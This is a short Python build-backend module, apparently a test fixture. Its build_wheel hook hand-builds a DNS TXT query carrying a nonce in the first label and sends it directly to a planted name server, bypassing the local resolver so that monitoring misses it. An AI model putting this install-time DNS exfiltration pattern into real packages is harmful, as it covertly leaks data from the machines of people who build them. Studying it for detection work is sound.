"""Builds a DNS question by hand and sends it straight to a name server.

The first label carries the data. The machine's own resolver, which could be watched or
taken away, has no part in it. node-ipc brought its own resolver along, for those who
watch the machine's.
"""

import socket
import struct

import kit

RECURSE, TXT, IN = 0x0100, 16, 1


def _question(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack(">6H", 1, RECURSE, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, TXT, IN)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("ask"):
        server = kit.plant("server")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            question = _question(f"{kit.nonce}.{server.domain}")
            out.sendto(question, (server.address, server.port))
    return kit.wheel(wheel_directory)
